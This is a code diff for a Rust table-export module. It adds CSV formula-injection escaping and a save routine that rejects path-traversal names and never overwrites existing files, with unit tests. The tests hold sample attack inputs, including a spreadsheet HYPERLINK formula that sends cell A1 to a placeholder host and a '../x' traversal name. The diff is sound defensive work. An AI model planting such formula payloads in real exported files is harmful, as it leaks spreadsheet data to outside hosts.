@@ -4,12 +4,18 @@
 //! Rooms are counted here, spans are whole seconds, and what is not known is `null`, so that every row has every field.
 
 use std::fmt::Write as _;
+use std::fs::{self, File};
+use std::io::{self, Write as _};
+use std::path::{Component, Path};
 
 use super::events;
 use super::picture::{Picture, send_q};
 use super::units;
 use crate::engine::record::Entry;
 use crate::engine::snapshot::{Flags, Row, Terminal};
+
+/// Names tried for one file.
+const SAME_NAME_MAX: usize = 100;
 
 /// As what the table is written.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -152,19 +158,70 @@ fn csv(picture: &Picture, rows: impl Iterator<Item = usize>) -> String {
             let names: Vec<&str> = fields.iter().map(|(name, _)| *name).collect();
             text = names.join(",") + "\r\n";
         }
-        let cells: Vec<String> = fields.iter().map(|(_, value)| quoted_cell(&plain(value))).collect();
+        let cells: Vec<String> = fields.iter().map(|(_, value)| cell(value)).collect();
         text.push_str(&cells.join(","));
         text.push_str("\r\n");
     }
     text
 }
 
+/// A cell of a table. What a client chose and a spreadsheet would run as a formula begins with an apostrophe, which
+/// makes it text there (OWASP, "CSV Injection").
+fn cell(value: &Value) -> String {
+    let text = plain(value);
+    let is_chosen = matches!(value, Value::Text(_));
+    if is_chosen && is_run_by_spreadsheets(&text) { quoted(&format!("'{text}")) } else { quoted_cell(&text) }
+}
+
+/// Whether the text begins as formulas do, in full width too, or with what spreadsheets skip before one.
+fn is_run_by_spreadsheets(text: &str) -> bool {
+    let is_skipped = |c: char| c.is_whitespace() || c.is_control() || c == '\u{feff}';
+    let begins_formula = |c: char| ['=', '+', '-', '@', '＝', '＋', '－', '＠'].contains(&c);
+    text.starts_with(['\t', '\r', '\n']) || text.trim_start_matches(is_skipped).starts_with(begins_formula)
+}
+
+/// Quotes what RFC 4180 wants quoted, and what parts cells where a comma is the decimal point.
 fn quoted_cell(text: &str) -> String {
-    if text.contains([',', '"', '\r', '\n']) {
-        format!("\"{}\"", text.replace('"', "\"\""))
-    } else {
-        text.to_owned()
+    if text.contains([',', '"', '\r', '\n', ';', '\t']) { quoted(text) } else { text.to_owned() }
+}
+
+fn quoted(text: &str) -> String {
+    format!("\"{}\"", text.replace('"', "\"\""))
+}
+
+/// Writes a new file into the working directory, under `name` or, where that exists, with a number behind it. Gives the
+/// message for the operator. A file that cannot be written as a whole is removed.
+pub(crate) fn save(name: &str, contents: &str) -> Result<String, String> {
+    save_with(name, |file| file.write_all(contents.as_bytes()).and_then(|()| file.sync_all()))
+}
+
+fn save_with(name: &str, write: impl FnOnce(&mut File) -> io::Result<()>) -> Result<String, String> {
+    if !matches!(Path::new(name).components().collect::<Vec<_>>()[..], [Component::Normal(plain)] if plain == name)
+    {
+        return Err(format!("not saved: {name} is no plain file name"));
     }
+    let (stem, extension) = name.rsplit_once('.').unwrap_or((name, ""));
+    let names = (1..=SAME_NAME_MAX).map(|number| match number {
+        1 => name.to_owned(),
+        _ if extension.is_empty() => format!("{stem}-{number}"),
+        _ => format!("{stem}-{number}.{extension}"),
+    });
+    for name in names {
+        let mut file = match File::create_new(&name) {
+            Ok(file) => file,
+            Err(error) if error.kind() == io::ErrorKind::AlreadyExists => continue,
+            Err(error) => return Err(format!("not saved: {name}: {error}")),
+        };
+        return match write(&mut file) {
+            Ok(()) => Ok(format!("saved as {name}")),
+            Err(error) => {
+                // It was created here, so nobody else's file is removed.
+                let _ = fs::remove_file(&name);
+                Err(format!("not saved: {name}: {error}"))
+            }
+        };
+    }
+    Err(format!("not saved: {name} and {SAME_NAME_MAX} names like it exist"))
 }
 
 fn json(picture: &Picture, rows: impl Iterator<Item = usize>) -> String {
@@ -218,5 +275,53 @@ mod tests {
         assert_eq!(json_text("a\"b\\c\n\u{1}é"), "\"a\\\"b\\\\c\\u000a\\u0001é\"");
         assert_eq!(quoted_cell("a,\"b\""), "\"a,\"\"b\"\"\"");
         assert_eq!(quoted_cell("plain"), "plain");
+    }
+
+    #[test]
+    fn a_cell_that_a_spreadsheet_would_run_is_text() {
+        let text = |text: &str| cell(&Value::Text(text.to_owned()));
+        for (typed, written) in [
+            ("=HYPERLINK(\"http://e.x/\"&A1,\"ok\")", "\"'=HYPERLINK(\"\"http://e.x/\"\"&A1,\"\"ok\"\")\""),
+            ("-bob", "\"'-bob\""),
+            ("+1", "\"'+1\""),
+            ("@SUM(A1)", "\"'@SUM(A1)\""),
+            ("\tx", "\"'\tx\""),
+            ("\rx", "\"'\rx\""),
+            ("  =1", "\"'  =1\""),
+            ("\u{feff}＝1", "\"'\u{feff}＝1\""),
+            ("x;=1", "\"x;=1\""),
+            ("a-b", "a-b"),
+            ("alice", "alice"),
+        ] {
+            assert_eq!(text(typed), written, "{typed:?}");
+        }
+        assert_eq!(cell(&Value::Number(7)), "7");
+        assert_eq!(cell(&Value::None), "");
+    }
+
+    #[test]
+    fn a_file_is_saved_here_only_and_never_over_another() {
+        assert!(save("../x", "").expect_err("elsewhere").contains("plain file name"));
+        assert!(save("", "").is_err() && save("..", "").is_err() && save("a/", "").is_err());
+        let stem = format!("chatops-test-{}", std::process::id());
+        let names = [format!("{stem}.txt"), format!("{stem}-2.txt")];
+        let saved = [save(&names[0], "text"), save(&names[0], "other")];
+        let contents = names.clone().map(|name| fs::read_to_string(name).ok());
+        for name in &names {
+            let _ = fs::remove_file(name);
+        }
+        assert_eq!(saved, names.map(|name| Ok(format!("saved as {name}"))), "two exports in one second");
+        assert_eq!(contents, ["text", "other"].map(|text| Some(text.to_owned())));
+    }
+
+    #[test]
+    fn what_could_not_be_written_as_a_whole_has_no_name() {
+        let name = format!("chatops-test-full-{}.txt", std::process::id());
+        let full = save_with(&name, |file| {
+            file.write_all(b"half")?;
+            Err(io::ErrorKind::StorageFull.into())
+        });
+        assert!(full.expect_err("the disk is full").starts_with("not saved: "));
+        assert!(!Path::new(&name).exists(), "half a file is no export");
     }
 }
